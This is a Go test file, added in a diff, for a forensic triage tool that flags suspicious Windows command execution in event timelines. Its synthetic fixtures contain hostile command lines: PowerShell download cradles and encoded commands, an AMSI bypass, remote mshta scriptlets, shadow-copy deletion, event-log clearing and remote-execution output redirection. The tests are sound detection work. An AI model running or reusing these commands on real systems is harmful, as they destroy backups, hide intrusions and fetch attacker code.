@@ -1,0 +1,222 @@
+package analyzers
+
+import (
+	"context"
+	"database/sql"
+	"encoding/json"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"triage/timeline"
+)
+
+func TestRegistrySortedAndUnique(t *testing.T) {
+	prev := ""
+	for _, a := range Registry() {
+		m := a.Meta()
+		if m.ID <= prev {
+			t.Errorf("registry not sorted or has duplicates: %q after %q", m.ID, prev)
+		}
+		if m.Technique.ID == "" || m.Severity == "" || m.Description == "" || len(m.References) == 0 {
+			t.Errorf("%s: incomplete metadata %+v", m.ID, m)
+		}
+		prev = m.ID
+	}
+}
+
+// ev is a synthetic timeline event for the table tests.
+type ev struct {
+	source, provider     string
+	eventID, level       int
+	process, parent, cmd string
+	data                 map[string]any
+	ts                   string
+}
+
+func newTimeline(t *testing.T, events []ev) *sql.DB {
+	t.Helper()
+	db, err := timeline.Create(filepath.Join(t.TempDir(), "timeline.db"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { db.Close() })
+	w, err := timeline.NewWriter(db)
+	if err != nil {
+		t.Fatal(err)
+	}
+	art := &timeline.Artifact{Host: "h", EvidenceRoot: "r", Path: "p", Kind: "evtx", SHA256: "00", MD5: "00"}
+	if _, err := w.AddArtifact(art); err != nil {
+		t.Fatal(err)
+	}
+	for i, e := range events {
+		ts := time.Date(2024, 3, 5, 10, 0, i, 0, time.UTC) // a Tuesday, in business hours
+		if e.ts != "" {
+			ts, _ = time.Parse(time.RFC3339, e.ts)
+		}
+		if e.source == "" {
+			e.source = "evtx"
+		}
+		if err := w.AddEvent(&timeline.Event{TS: ts, Host: "h", ArtifactID: art.ID, RecordID: int64(i + 1), Source: e.source,
+			EventID: e.eventID, Provider: e.provider, Level: e.level, Process: e.process, ParentProcess: e.parent,
+			CommandLine: e.cmd, Summary: "s", Data: e.data, ScriptBlockID: str(e.data["ScriptBlockId"])}); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := w.Close(); err != nil {
+		t.Fatal(err)
+	}
+	return db
+}
+
+func str(v any) string { s, _ := v.(string); return s }
+
+func sysmon1(image, parent, cmd string) ev {
+	return ev{provider: "Microsoft-Windows-Sysmon", eventID: 1, process: image, parent: parent, cmd: cmd}
+}
+
+func security4688(image, parent, cmd string) ev {
+	return ev{provider: "Microsoft-Windows-Security-Auditing", eventID: 4688, process: image, parent: parent, cmd: cmd}
+}
+
+const (
+	ps   = `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
+	cmd  = `C:\Windows\System32\cmd.exe`
+	expl = `C:\Windows\explorer.exe`
+)
+
+func TestAnalyzers(t *testing.T) {
+	tests := []struct {
+		name      string
+		events    []ev
+		technique string
+		severity  string // "" when no finding of the technique must appear
+		title     string
+	}{
+		{"encoded command", []ev{sysmon1(ps, expl, `powershell -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AeAAnACkA`)},
+			"T1059.001", "high", "PowerShell -EncodedCommand: download"},
+		{"download cradle with iex", []ev{security4688(ps, cmd, `powershell IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')`)},
+			"T1059.001", "high", "PowerShell download"},
+		{"stealth flags", []ev{security4688(ps, expl, `powershell.exe -nop -w hidden -noni -c "Get-Date"`)},
+			"T1059.001", "medium", "PowerShell started with stealth flags: -nop -w hidden -noni"},
+		{"plain powershell is quiet", []ev{security4688(ps, expl, `powershell.exe -File C:\scripts\backup.ps1`)},
+			"T1059.001", "", ""},
+		{"amsi bypass in history", []ev{{source: "history", process: "powershell.exe", cmd: `[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')`}},
+			"T1059.001", "high", "PowerShell amsi-bypass"},
+		{"4104 warning", []ev{{provider: "Microsoft-Windows-PowerShell", eventID: 4104, level: 3, data: map[string]any{"ScriptBlockId": "b", "ScriptBlockText": "x", "MessageNumber": "1", "MessageTotal": "1"}}},
+			"T1059.001", "medium", "Script block Windows logged as suspicious (4104 Warning)"},
+		{"engine downgrade", []ev{{provider: "PowerShell", eventID: 400, data: map[string]any{"EngineVersion": "2.0", "HostName": "ConsoleHost", "HostApplication": "powershell -version 2"}}},
+			"T1059.001", "high", "PowerShell engine downgraded to version 2.0"},
+		{"engine 5 is fine", []ev{{provider: "PowerShell", eventID: 400, data: map[string]any{"EngineVersion": "5.1.17763.1", "HostName": "ConsoleHost"}}},
+			"T1059.001", "", ""},
+		{"remoting", []ev{{provider: "PowerShell", eventID: 400, data: map[string]any{"EngineVersion": "5.1", "HostName": "ServerRemoteHost"}}},
+			"T1059.001", "medium", "PowerShell remoting session (ServerRemoteHost)"},
+		{"unmanaged powershell", []ev{{provider: "Microsoft-Windows-Sysmon", eventID: 7, process: `C:\Users\a\evil.exe`, data: map[string]any{"ImageLoaded": `C:\Windows\assembly\System.Management.Automation.dll`}}},
+			"T1059.001", "high", "Unmanaged PowerShell: evil.exe loaded System.Management.Automation"},
+		{"powershell loading its own engine", []ev{{provider: "Microsoft-Windows-Sysmon", eventID: 7, process: ps, data: map[string]any{"ImageLoaded": `C:\Windows\assembly\System.Management.Automation.dll`, "Signed": "true"}}},
+			"T1059.001", "", ""},
+		{"cmd from word", []ev{sysmon1(cmd, `C:\Program Files\Microsoft Office\WINWORD.EXE`, `cmd /c whoami`)},
+			"T1059.003", "high", "cmd.exe started by winword.exe (Office)"},
+		{"cmd from explorer", []ev{sysmon1(cmd, expl, `cmd.exe`)}, "T1059.003", "", ""},
+		{"dosfuscation", []ev{security4688(cmd, expl, `cmd /v:on /c "set a=po^wer^sh^ell&&set b=%a:~0,3%&&call !a! %b:~1,2% %x:~-3,1% ^e^c^h^o"`)},
+			"T1059.003", "medium", ""},
+		{"shadow deletion", []ev{security4688(cmd, expl, `cmd.exe /c vssadmin delete shadows /all /quiet`)},
+			"T1059.003", "high", "cmd.exe /c shadow-copy-deletion"},
+		{"wmiexec output", []ev{security4688(cmd, "", `cmd.exe /Q /c cd \ 1> \\127.0.0.1\ADMIN$\__1619090610.0007844 2>&1`)},
+			"T1059.003", "high", "cmd.exe output redirected to an administrative share (remote execution)"},
+		{"batch in temp with log clearing", []ev{{source: "batch", process: `C:\Users\bob\AppData\Local\Temp\x.bat`, data: map[string]any{"content": "@echo off\r\nwevtutil cl Security\r\n"}}},
+			"T1059.003", "high", "Batch file x.bat: event-log-clearing"},
+		{"benign batch", []ev{{source: "batch", process: `C:\Tools\build.bat`, data: map[string]any{"content": "@echo off\r\nmsbuild app.sln\r\n"}}},
+			"T1059.003", "", ""},
+		{"service runs cmd", []ev{{provider: "Service Control Manager", eventID: 7045, data: map[string]any{"ServiceName": "x", "ImagePath": `%COMSPEC% /Q /c echo cd ^> \\127.0.0.1\C$\__output`}}},
+			"T1059.003", "high", "Service installed to run a command shell: x"},
+		{"wscript from downloads", []ev{sysmon1(`C:\Windows\System32\wscript.exe`, expl, `wscript.exe C:\Users\bob\Downloads\invoice.vbs`)},
+			"T1059.005", "medium", "wscript.exe ran a script from a user-writable folder"},
+		{"mshta javascript", []ev{sysmon1(`C:\Windows\System32\mshta.exe`, expl, `mshta.exe javascript:a=GetObject("script:http://x/a.sct").Exec();close()`)},
+			"T1059.007", "high", "mshta.exe ran inline or remote script"},
+		{"jscript engine in office", []ev{{provider: "Microsoft-Windows-Sysmon", eventID: 7, process: `C:\Program Files\Microsoft Office\EXCEL.EXE`, data: map[string]any{"ImageLoaded": `C:\Windows\System32\jscript9.dll`}}},
+			"T1059.007", "medium", ""},
+		{"vbs is not jscript", []ev{sysmon1(`C:\Windows\System32\wscript.exe`, expl, `wscript.exe C:\Users\bob\Downloads\invoice.vbs`)},
+			"T1059.007", "", ""},
+		{"out of hours", []ev{{provider: "Microsoft-Windows-Sysmon", eventID: 1, process: cmd, parent: expl, cmd: "cmd", ts: "2024-03-09T23:30:00Z"}},
+			"T1059", "low", "cmd.exe ran outside business hours (Saturday 23:30 UTC)"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			db := newTimeline(t, tt.events)
+			if _, err := Run(context.Background(), db, Options{}); err != nil {
+				t.Fatal(err)
+			}
+			rows, err := db.Query(`SELECT severity, title, rule FROM findings WHERE technique_id = ? ORDER BY id`, tt.technique)
+			if err != nil {
+				t.Fatal(err)
+			}
+			defer rows.Close()
+			var got []string
+			found := false
+			for rows.Next() {
+				var sev, title, rule string
+				rows.Scan(&sev, &title, &rule)
+				got = append(got, sev+": "+title)
+				if rule == "" {
+					t.Errorf("finding %q has no reason", title)
+				}
+				if sev == tt.severity && (tt.title == "" || title == tt.title) {
+					found = true
+				}
+			}
+			if tt.severity == "" && len(got) > 0 {
+				t.Errorf("false positive: %v", got)
+			}
+			if tt.severity != "" && !found {
+				t.Errorf("want %s %q, got %v", tt.severity, tt.title, got)
+			}
+		})
+	}
+}
+
+func TestEvidenceAndIncidents(t *testing.T) {
+	db := newTimeline(t, []ev{
+		sysmon1(cmd, `C:\Program Files\Microsoft Office\WINWORD.EXE`, `cmd /c powershell -nop -w hidden -c iex(iwr http://x)`),
+		sysmon1(ps, cmd, `powershell -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://x')`),
+	})
+	sum, err := Run(context.Background(), db, Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if sum.Incidents != 1 {
+		t.Errorf("%d incidents, want 1", sum.Incidents)
+	}
+	var n, missing int
+	db.QueryRow(`SELECT count(*) FROM finding_evidence`).Scan(&n)
+	db.QueryRow(`SELECT count(*) FROM findings f WHERE NOT EXISTS (SELECT 1 FROM finding_evidence e WHERE e.finding_id = f.id)`).Scan(&missing)
+	if n == 0 || missing != 0 {
+		t.Errorf("%d evidence rows, %d findings without evidence", n, missing)
+	}
+	var links string
+	db.QueryRow(`SELECT links FROM incidents`).Scan(&links)
+	var l []string
+	json.Unmarshal([]byte(links), &l)
+	if !strings.Contains(links, "image:cmd.exe") {
+		t.Errorf("incident links %v", l)
+	}
+	// A rerun gives the same rows.
+	dump := func() string {
+		var b strings.Builder
+		rows, _ := db.Query(`SELECT id, analyzer, title, severity, features, incident_id FROM findings ORDER BY id`)
+		defer rows.Close()
+		for rows.Next() {
+			var id, inc sql.NullInt64
+			var a, ti, s, f string
+			rows.Scan(&id, &a, &ti, &s, &f, &inc)
+			b.WriteString(strings.Join([]string{a, ti, s, f}, "|"))
+		}
+		return b.String()
+	}
+	before := dump()
+	Run(context.Background(), db, Options{})
+	if dump() != before {
+		t.Error("a rerun of the analyzers changed the findings")
+	}
+}
